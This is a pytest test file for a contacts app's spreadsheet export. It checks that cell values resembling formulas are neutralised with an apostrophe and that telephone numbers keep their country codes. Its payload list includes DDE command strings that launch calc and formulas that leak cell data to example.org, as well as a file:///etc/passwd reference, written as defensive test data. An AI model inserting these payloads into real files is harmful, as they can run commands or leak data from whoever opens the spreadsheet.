"""No cell of a file that is taken away is run as a formula."""

import csv
import io

import pytest
from django.utils.translation import gettext_lazy

from contacts.spreadsheet import csv_text, safe_cell, telephone_cell

PAYLOADS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://example.org/?leak="&A1,"Click")',
    '=IMPORTXML(CONCAT("https://example.org/?",A1),"//a")',
    "=WEBSERVICE(A1)",
    "='file:///etc/passwd'#$passwd.A1",
    "+1+1",
    "+cmd|' /C calc'!A0",
    "+41 22 555 55 55",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "-",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@A1",
    "|calc",
    "|' /C calc'!A0",
    " =1+1",
    "   +1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n@A1",
    "\tplain",
    "\rplain",
    "\x00=1+1",
    "\x0b=1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\u202e=1+1",
    "\ufeff=1+1",
    "\u3000=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠A1",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_what_begins_like_a_formula_is_marked_as_text(payload):
    assert safe_cell(payload) == f"'{payload}"


@pytest.mark.parametrize("payload", PAYLOADS)
def test_it_comes_back_from_a_csv_file_as_it_was_written(payload):
    text = csv_text([[payload, "next"]])

    assert list(csv.reader(io.StringIO(text, newline=""))) == [[f"'{payload}", "next"]]


@pytest.mark.parametrize(
    "text", ["", "Training", "Détection – démineurs", "دورة تدريبية", "'quoted'", "1-2", "a=b", "x@example.org", "   "]
)
def test_other_text_stays_as_it_is(text):
    assert safe_cell(text) == text


def test_numbers_stay_numbers_and_nothing_is_empty():
    assert safe_cell(-5) == -5
    assert safe_cell(None) == ""
    assert safe_cell(gettext_lazy("Training")) == "Training"


@pytest.mark.parametrize(
    ("number", "cell"),
    [
        ("+41 22 555 55 55", "(+41) 22 555 55 55"),
        ("+41225555555", "(+41) 225555555"),
        ("+1 (202) 555-0100", "(+1) (202) 555-0100"),
        ("+7-495-555", "(+7) 495-555"),
        ("+961 1 555 555", "(+961) 1 555 555"),
        (" +41 22 555", "(+41) 22 555"),
        ("(+41) 22 555", "(+41) 22 555"),
        ("022 555 55 55", "022 555 55 55"),
        ("", ""),
    ],
)
def test_a_telephone_number_keeps_its_country_code_and_needs_no_apostrophe(number, cell):
    assert telephone_cell(number) == cell


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_telephone_number_is_never_a_formula_either(payload):
    cell = telephone_cell(payload)

    assert safe_cell(cell) == cell or cell.startswith("'")
    assert not cell.startswith(tuple("=+-@|\t\r"))
